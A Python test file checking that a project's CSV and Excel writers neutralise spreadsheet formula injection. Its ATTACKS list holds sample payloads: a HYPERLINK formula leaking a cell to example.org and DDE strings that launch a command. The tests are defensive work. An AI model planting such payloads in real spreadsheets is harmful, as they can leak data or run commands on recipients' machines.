"""Files the project writes open in a spreadsheet as data, never as formulas."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import polars as pl
import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st

from workforce.csv_safety import is_formula, neutralise, write_csv, write_excel

ATTACKS = [
    '=HYPERLINK("http://example.org/?leak="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_starts_are_neutralised_in_csv(tmp_path: Path, attack: str) -> None:
    frame = pl.DataFrame({"employer_id": [attack, "GGZ-01"], "rows": [1, 2]})
    path = tmp_path / "out.csv"

    write_csv(frame, path)

    back = pl.read_csv(path, infer_schema=False)
    assert back["employer_id"].to_list() == ["'" + attack, "GGZ-01"]
    assert is_formula(attack)


@pytest.mark.parametrize("number", ["-8", "+31,5", "-0.25", "1e-3", "-12,5"])
def test_numbers_stay_numbers(number: str) -> None:
    frame = pl.DataFrame({"as_text": [number], "as_number": [-8.5]})

    assert neutralise(frame).equals(frame)
    assert not is_formula(number)


def test_excel_cells_are_text_not_formulas(tmp_path: Path) -> None:
    frame = pl.DataFrame({"employer_id": ATTACKS[:4], "fte": [-1.5, 2.0, 3.0, 4.0]})
    path = tmp_path / "out.xlsx"

    with xlsxwriter.Workbook(path) as workbook:
        write_excel(frame, workbook, worksheet="advice")

    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no cell holds a formula
    back = pl.read_excel(path)
    assert back["employer_id"].to_list() == ["'" + attack for attack in ATTACKS[:4]]
    assert back["fte"].to_list() == [-1.5, 2.0, 3.0, 4.0]


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r0123456789.,eE abcHYPERLINK(\"')|!"), max_size=12))
def test_no_written_cell_can_start_a_formula_unless_it_is_a_plain_number(value: str) -> None:
    (written,) = neutralise(pl.DataFrame({"cell": [value]}))["cell"].to_list()

    if written == value:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(
            r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?", value
        )
    else:
        assert written == "'" + value
